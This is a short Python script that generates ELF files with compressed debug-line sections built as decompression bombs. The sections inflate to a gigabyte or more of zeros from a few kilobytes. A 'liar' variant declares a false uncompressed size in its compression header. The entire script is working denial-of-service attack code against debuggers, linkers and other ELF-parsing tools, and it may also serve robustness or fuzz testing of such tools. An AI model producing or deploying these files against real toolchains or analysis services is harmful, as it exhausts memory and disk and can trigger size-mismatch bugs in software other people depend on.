#!/usr/bin/env python3
"""Compressed debug sections that inflate far beyond their size on disk.

usage: elf_bomb.py KIND ELF_IN ELF_OUT [MIB]
  KIND zdebug: a GNU .zdebug_line section ("ZLIB", the size, zlib data)
       gabi:   a .debug_line section with SHF_COMPRESSED (Elf64_Chdr, zlib)
       liar:   gabi, but its header declares 1 MiB of the MIB it inflates to
The zlib data inflates to MIB MiB (default 1024) of zeros and takes about
1 KiB per MiB: one flushed block of 1 MiB of zeros repeated, the Adler-32
of the whole worked out (zeros leave its low half at 1).
"""
import struct
import subprocess
import sys
import tempfile
import zlib

SHF_COMPRESSED = 0x800
MIB = 1 << 20


def bomb(mib):
    """zlib data of mib MiB of zeros, without inflating or deflating all of it."""
    c = zlib.compressobj(9)
    zeros = bytes(MIB)
    first = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.flush(zlib.Z_FINISH)[:-4]
    adler = ((mib * MIB) % 65521) << 16 | 1
    return first + again * (mib - 1) + tail + struct.pack(">I", adler)


def set_compressed(path, name):
    """Sets SHF_COMPRESSED on section name of the ELF64 little-endian file at path."""
    with open(path, "r+b") as f:
        d = bytearray(f.read())
        shoff, = struct.unpack_from("<Q", d, 0x28)
        shentsize, shnum, shstrndx = struct.unpack_from("<HHH", d, 0x3A)
        stroff, = struct.unpack_from("<Q", d, shoff + shstrndx * shentsize + 24)
        for i in range(shnum):
            at = shoff + i * shentsize
            nameoff, = struct.unpack_from("<I", d, at)
            end = d.index(0, stroff + nameoff)
            if d[stroff + nameoff:end].decode() == name:
                flags, = struct.unpack_from("<Q", d, at + 8)
                struct.pack_into("<Q", d, at + 8, flags | SHF_COMPRESSED)
                f.seek(0)
                f.write(d)
                return
    sys.exit(f"elf_bomb.py: no section {name} in {path}")


def main():
    kind, src, out = sys.argv[1:4]
    mib = int(sys.argv[4]) if len(sys.argv) > 4 else 1024
    data = bomb(mib)
    if kind == "zdebug":
        name, blob = ".zdebug_line", b"ZLIB" + struct.pack(">Q", mib * MIB) + data
    else:
        declared = MIB if kind == "liar" else mib * MIB
        name, blob = ".debug_line", struct.pack("<IIQQ", 1, 0, declared, 1) + data
    with tempfile.NamedTemporaryFile() as t:
        t.write(blob)
        t.flush()
        subprocess.run(["objcopy", "--add-section", f"{name}={t.name}", src, out], check=True)
    if kind != "zdebug":
        set_compressed(out, name)


if __name__ == "__main__":
    main()
